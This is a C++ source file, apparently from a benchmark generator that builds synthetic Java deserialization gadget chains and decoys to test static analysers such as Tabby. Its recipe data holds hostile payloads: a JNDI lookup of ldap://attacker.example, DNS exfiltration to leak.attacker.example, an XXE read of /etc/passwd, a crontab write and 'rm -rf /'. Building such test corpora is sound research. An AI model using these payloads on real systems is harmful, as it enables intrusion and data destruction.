@@ -1,0 +1,427 @@
+#include "corpus/planter.hpp"
+
+namespace tabby::corpus {
+
+namespace {
+
+using jir::ClassBuilder;
+using jir::MethodBuilder;
+using runtime::ObjectGraphSpec;
+using runtime::ObjectSpec;
+using runtime::Ref;
+
+/// Declares the payload fields of a sink flavour on a carrier class, emits
+/// the sink call (reading those fields off @this), and fills attack recipes.
+struct SinkKit {
+  SinkFlavor flavor;
+
+  void declare_fields(ClassBuilder& carrier) const {
+    switch (flavor) {
+      case SinkFlavor::Exec:
+        carrier.field("cmd", "java.lang.String");
+        break;
+      case SinkFlavor::Invoke:
+        carrier.field("refMethod", "java.lang.reflect.Method");
+        carrier.field("target", "java.lang.Object");
+        carrier.field("margs", "java.lang.Object[]");
+        break;
+      case SinkFlavor::JndiLookup:
+        carrier.field("ctx", "javax.naming.Context");
+        carrier.field("jndiName", "java.lang.String");
+        break;
+      case SinkFlavor::FileWrite:
+        carrier.field("path", "java.lang.Object");
+        break;
+      case SinkFlavor::XmlParse:
+        carrier.field("builder", "javax.xml.parsers.DocumentBuilder");
+        carrier.field("xml", "java.lang.String");
+        break;
+      case SinkFlavor::SqlConnection:
+        carrier.field("ds", "javax.sql.DataSource");
+        break;
+      case SinkFlavor::Dns:
+        carrier.field("host", "java.lang.String");
+        break;
+    }
+  }
+
+  void emit(MethodBuilder& m) const {
+    switch (flavor) {
+      case SinkFlavor::Exec:
+        m.field_load("kc", "@this", "cmd")
+            .invoke_static("krt", "java.lang.Runtime", "getRuntime", {})
+            .invoke_virtual("", "krt", "java.lang.Runtime", "exec", {"kc"});
+        break;
+      case SinkFlavor::Invoke:
+        m.field_load("kmo", "@this", "refMethod")
+            .field_load("ko", "@this", "target")
+            .field_load("kar", "@this", "margs")
+            .invoke_virtual("", "kmo", "java.lang.reflect.Method", "invoke", {"ko", "kar"});
+        break;
+      case SinkFlavor::JndiLookup:
+        m.field_load("kcx", "@this", "ctx")
+            .field_load("kn", "@this", "jndiName")
+            .invoke_interface("", "kcx", "javax.naming.Context", "lookup", {"kn"});
+        break;
+      case SinkFlavor::FileWrite:
+        m.field_load("kp", "@this", "path")
+            .invoke_static("", "java.nio.file.Files", "newOutputStream", {"kp"});
+        break;
+      case SinkFlavor::XmlParse:
+        m.field_load("kb", "@this", "builder")
+            .field_load("kx", "@this", "xml")
+            .invoke_virtual("", "kb", "javax.xml.parsers.DocumentBuilder", "parse", {"kx"});
+        break;
+      case SinkFlavor::SqlConnection:
+        m.field_load("kd", "@this", "ds")
+            .invoke_interface("", "kd", "javax.sql.DataSource", "getConnection", {});
+        break;
+      case SinkFlavor::Dns:
+        m.field_load("kh", "@this", "host")
+            .invoke_static("", "java.net.InetAddress", "getByName", {"kh"});
+        break;
+    }
+  }
+
+  /// Adds the payload values to the carrier's ObjectSpec (plus any auxiliary
+  /// objects in the graph), namespaced by `prefix`.
+  void fill_recipe(ObjectSpec& carrier, ObjectGraphSpec& graph, const std::string& prefix) const {
+    switch (flavor) {
+      case SinkFlavor::Exec:
+        carrier.fields["cmd"] = std::string("touch /tmp/pwned");
+        break;
+      case SinkFlavor::Invoke: {
+        std::string mref = prefix + "_method";
+        std::string aref = prefix + "_args";
+        graph.objects[mref] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
+        graph.objects[aref] = ObjectSpec{"java.lang.Object[]", {}, {std::string("arg0")}};
+        carrier.fields["refMethod"] = Ref{mref};
+        carrier.fields["target"] = std::string("victim");
+        carrier.fields["margs"] = Ref{aref};
+        break;
+      }
+      case SinkFlavor::JndiLookup: {
+        std::string cref = prefix + "_ctx";
+        graph.objects[cref] = ObjectSpec{"javax.naming.InitialContext", {}, {}};
+        carrier.fields["ctx"] = Ref{cref};
+        carrier.fields["jndiName"] = std::string("ldap://attacker.example/obj");
+        break;
+      }
+      case SinkFlavor::FileWrite:
+        carrier.fields["path"] = std::string("/etc/crontab");
+        break;
+      case SinkFlavor::XmlParse: {
+        std::string bref = prefix + "_builder";
+        graph.objects[bref] = ObjectSpec{"javax.xml.parsers.DocumentBuilder", {}, {}};
+        carrier.fields["builder"] = Ref{bref};
+        carrier.fields["xml"] = std::string("<!DOCTYPE x SYSTEM \"file:///etc/passwd\">");
+        break;
+      }
+      case SinkFlavor::SqlConnection: {
+        std::string dref = prefix + "_ds";
+        graph.objects[dref] = ObjectSpec{"com.sim.jdbc.AttackerDataSource", {}, {}};
+        carrier.fields["ds"] = Ref{dref};
+        break;
+      }
+      case SinkFlavor::Dns:
+        carrier.fields["host"] = std::string("leak.attacker.example");
+        break;
+    }
+  }
+};
+
+}  // namespace
+
+Planter::Planter(jir::ProgramBuilder& pb, std::string pkg, std::uint64_t seed)
+    : pb_(&pb), pkg_(std::move(pkg)), rng_(seed) {}
+
+std::string Planter::make_plain_helper(SinkFlavor sink) {
+  SinkKit kit{sink};
+  std::string name = fresh("Helper");
+  ClassBuilder helper = pb_->add_class(name);
+  helper.serializable();
+  kit.declare_fields(helper);
+  helper.method("process")
+      .returns("void")
+      .invoke_virtual("", "@this", name, "doWork", {})
+      .ret();
+  {
+    MethodBuilder do_work = helper.method("doWork").returns("void");
+    kit.emit(do_work);
+    do_work.ret();
+  }
+  return name;
+}
+
+GroundTruthChain Planter::plant_real_chain(const RealChainOptions& options) {
+  SinkKit kit{options.sink};
+  GroundTruthChain truth;
+  truth.known_in_dataset = options.known;
+  truth.sink_signature = sink_signature(options.sink);
+
+  if (!options.iface) {
+    std::string helper =
+        options.shared_helper.empty() ? make_plain_helper(options.sink) : options.shared_helper;
+    std::string gadget = fresh(options.known ? "PlainGadget" : "ExtraGadget");
+    ClassBuilder cls = pb_->add_class(gadget);
+    cls.serializable();
+    cls.field("helper", helper);
+    cls.method("readObject")
+        .param("java.io.ObjectInputStream")
+        .returns("void")
+        .field_load("h", "@this", "helper")
+        .invoke_virtual("", "h", helper, "process", {})
+        .ret();
+
+    truth.id = gadget;
+    truth.source_signature = gadget + "#readObject/1";
+    truth.witnesses.push_back(helper + "#process/0");
+
+    ObjectSpec root{gadget, {{"helper", Ref{"h"}}}, {}};
+    ObjectSpec helper_obj{helper, {}, {}};
+    kit.fill_recipe(helper_obj, truth.recipe, "h");
+    truth.recipe.objects["root"] = std::move(root);
+    truth.recipe.objects["h"] = std::move(helper_obj);
+    truth.recipe.root = "root";
+    return truth;
+  }
+
+  // Interface-dispatch chain: readObject -> I.perform (CALL) with the
+  // implementation connected by an ALIAS edge.
+  std::string iface = fresh("Action");
+  std::string impl = fresh("ActionImpl");
+  std::string gadget = fresh(options.known ? "IfaceGadget" : "ExtraIfaceGadget");
+
+  ClassBuilder iface_cls = pb_->add_interface(iface);
+  iface_cls.method("perform").returns("void").set_abstract();
+
+  ClassBuilder impl_cls = pb_->add_class(impl);
+  impl_cls.implements(iface).serializable();
+  kit.declare_fields(impl_cls);
+  {
+    MethodBuilder perform = impl_cls.method("perform").returns("void");
+    kit.emit(perform);
+    perform.ret();
+  }
+
+  ClassBuilder cls = pb_->add_class(gadget);
+  cls.serializable();
+  cls.field("action", iface);
+  cls.method("readObject")
+      .param("java.io.ObjectInputStream")
+      .returns("void")
+      .field_load("a", "@this", "action")
+      .invoke_interface("", "a", iface, "perform", {})
+      .ret();
+
+  truth.id = gadget;
+  truth.source_signature = gadget + "#readObject/1";
+  truth.witnesses.push_back(iface + "#perform/0");
+
+  ObjectSpec root{gadget, {{"action", Ref{"impl"}}}, {}};
+  ObjectSpec impl_obj{impl, {}, {}};
+  kit.fill_recipe(impl_obj, truth.recipe, "impl");
+  truth.recipe.objects["root"] = std::move(root);
+  truth.recipe.objects["impl"] = std::move(impl_obj);
+  truth.recipe.root = "root";
+  return truth;
+}
+
+GroundTruthChain Planter::plant_reflection_chain(SinkFlavor sink) {
+  SinkKit kit{sink};
+  std::string gadget = fresh("ReflGadget");
+  std::string payload = fresh("ReflPayload");
+
+  // The gadget hands its target to an opaque reflective factory; the actual
+  // dangerous method is never statically invoked.
+  ClassBuilder cls = pb_->add_class(gadget);
+  cls.serializable();
+  cls.field("targetName", "java.lang.String");
+  cls.method("readObject")
+      .param("java.io.ObjectInputStream")
+      .returns("void")
+      .field_load("t", "@this", "targetName")
+      .invoke_static("obj", "sun.reflect.ReflectionFactory", "newInstanceByName", {"t"})
+      .ret();
+
+  ClassBuilder payload_cls = pb_->add_class(payload);
+  payload_cls.serializable();
+  kit.declare_fields(payload_cls);
+  {
+    MethodBuilder dangerous = payload_cls.method("dangerous").returns("void");
+    kit.emit(dangerous);
+    dangerous.ret();
+  }
+
+  GroundTruthChain truth;
+  truth.id = gadget;
+  truth.source_signature = gadget + "#readObject/1";
+  truth.sink_signature = sink_signature(sink);
+  truth.known_in_dataset = true;
+  truth.requires_reflection = true;  // no recipe: statically and VM-invisible
+  return truth;
+}
+
+FakeStructure Planter::plant_guarded_fake(SinkFlavor sink) {
+  SinkKit kit{sink};
+  std::string iface = fresh("Hook");
+  std::string impl = fresh("HookImpl");
+  std::string gadget = fresh("GuardedGadget");
+
+  ClassBuilder iface_cls = pb_->add_interface(iface);
+  iface_cls.method("fire").returns("void").set_abstract();
+
+  ClassBuilder impl_cls = pb_->add_class(impl);
+  impl_cls.implements(iface).serializable();
+  kit.declare_fields(impl_cls);
+  impl_cls.field("armed", "int");
+  {
+    // fire() hard-resets `armed` before checking it: statically the sink is
+    // reachable with controllable data (path-insensitive analysis), but at
+    // runtime the guard can never pass — a Tabby false positive.
+    MethodBuilder fire = impl_cls.method("fire").returns("void");
+    fire.const_int("zero", 0)
+        .field_store("@this", "armed", "zero")
+        .field_load("m", "@this", "armed")
+        .const_int("magic", 42)
+        .if_cmp("m", jir::CmpOp::Ne, "magic", "bail");
+    kit.emit(fire);
+    fire.mark("bail").ret();
+  }
+
+  ClassBuilder cls = pb_->add_class(gadget);
+  cls.serializable();
+  cls.field("hook", iface);
+  cls.method("readObject")
+      .param("java.io.ObjectInputStream")
+      .returns("void")
+      .field_load("h", "@this", "hook")
+      .invoke_interface("", "h", iface, "fire", {})
+      .ret();
+
+  FakeStructure fake;
+  fake.id = gadget;
+  fake.defeat = "guard";
+  fake.source_signature = gadget + "#readObject/1";
+  fake.sink_signature = sink_signature(sink);
+  ObjectSpec root{gadget, {{"hook", Ref{"impl"}}}, {}};
+  ObjectSpec impl_obj{impl, {{"armed", std::int64_t{42}}}, {}};
+  kit.fill_recipe(impl_obj, fake.attempt_recipe, "impl");
+  fake.attempt_recipe.objects["root"] = std::move(root);
+  fake.attempt_recipe.objects["impl"] = std::move(impl_obj);
+  fake.attempt_recipe.root = "root";
+  return fake;
+}
+
+FakeStructure Planter::plant_wipe_fake() {
+  std::string sanitizer = fresh("Sanitizer");
+  std::string gadget = fresh("WipeGadget");
+
+  ClassBuilder san = pb_->add_class(sanitizer);
+  san.method("sanitize")
+      .set_static()
+      .param("java.lang.String")
+      .returns("java.lang.String")
+      .const_str("safe", "sanitized")
+      .ret("safe");
+
+  // Plain (concrete-dispatch) shape, so the GadgetInspector baseline sees
+  // it; Tabby's interprocedural Action knows sanitize() discards its input.
+  ClassBuilder cls = pb_->add_class(gadget);
+  cls.serializable();
+  cls.field("data", "java.lang.String");
+  cls.method("readObject")
+      .param("java.io.ObjectInputStream")
+      .returns("void")
+      .field_load("d", "@this", "data")
+      .invoke_static("clean", sanitizer, "sanitize", {"d"})
+      .invoke_static("rt", "java.lang.Runtime", "getRuntime", {})
+      .invoke_virtual("", "rt", "java.lang.Runtime", "exec", {"clean"})
+      .ret();
+
+  FakeStructure fake;
+  fake.id = gadget;
+  fake.defeat = "wipe";
+  fake.source_signature = gadget + "#readObject/1";
+  fake.sink_signature = sink_signature(SinkFlavor::Exec);
+  fake.attempt_recipe.objects["root"] =
+      ObjectSpec{gadget, {{"data", std::string("rm -rf /")}}, {}};
+  fake.attempt_recipe.root = "root";
+  return fake;
+}
+
+std::vector<FakeStructure> Planter::plant_const_web(int source_count) {
+  if (web_hub_.empty()) {
+    web_hub_ = fresh("WebHub");
+    ClassBuilder hub = pb_->add_class(web_hub_);
+    hub.method("route")
+        .set_static()
+        .param("java.lang.String")
+        .returns("void")
+        .invoke_static("rt", "java.lang.Runtime", "getRuntime", {})
+        .invoke_virtual("", "rt", "java.lang.Runtime", "exec", {"@p1"})
+        .ret();
+  }
+  std::vector<FakeStructure> fakes;
+  fakes.reserve(static_cast<std::size_t>(source_count));
+  for (int i = 0; i < source_count; ++i) {
+    std::string source = fresh("WebSource");
+    ClassBuilder cls = pb_->add_class(source);
+    cls.serializable();
+    cls.method("readObject")
+        .param("java.io.ObjectInputStream")
+        .returns("void")
+        .const_str("k", "config-entry-" + std::to_string(i))
+        .invoke_static("", web_hub_, "route", {"k"})
+        .ret();
+
+    FakeStructure fake;
+    fake.id = source;
+    fake.defeat = "const";
+    fake.source_signature = source + "#readObject/1";
+    fake.sink_signature = sink_signature(SinkFlavor::Exec);
+    fake.attempt_recipe.objects["root"] = ObjectSpec{source, {}, {}};
+    fake.attempt_recipe.root = "root";
+    fakes.push_back(std::move(fake));
+  }
+  return fakes;
+}
+
+void Planter::plant_explosive_web(int hub_count, int fan_out) {
+  // Pre-compute names so forward references resolve.
+  std::vector<std::string> names;
+  names.reserve(static_cast<std::size_t>(hub_count));
+  for (int k = 0; k < hub_count; ++k) {
+    names.push_back(pkg_ + ".Maze" + std::to_string(k));
+  }
+  for (int k = 0; k < hub_count; ++k) {
+    ClassBuilder cls = pb_->add_class(names[static_cast<std::size_t>(k)]);
+    MethodBuilder step = cls.method("step").set_static().param("java.lang.String").returns("void");
+    step.const_str("x", "maze");
+    for (int d = 0; d < fan_out; ++d) {
+      int next = (k + 1 + d * 7) % hub_count;
+      if (next == k) next = (next + 1) % hub_count;
+      step.invoke_static("", names[static_cast<std::size_t>(next)], "step", {"x"});
+    }
+    if (k == 0) {
+      step.invoke_static("rt", "java.lang.Runtime", "getRuntime", {})
+          .invoke_virtual("", "rt", "java.lang.Runtime", "exec", {"@p1"});
+    }
+    step.ret();
+  }
+  // A handful of deserialization entry points into the maze.
+  for (int e = 0; e < 6; ++e) {
+    std::string entry = fresh("MazeEntry");
+    ClassBuilder cls = pb_->add_class(entry);
+    cls.serializable();
+    cls.method("readObject")
+        .param("java.io.ObjectInputStream")
+        .returns("void")
+        .const_str("k", "enter")
+        .invoke_static("", names[rng_.next_below(static_cast<std::uint64_t>(hub_count))], "step",
+                       {"k"})
+        .ret();
+  }
+}
+
+}  // namespace tabby::corpus
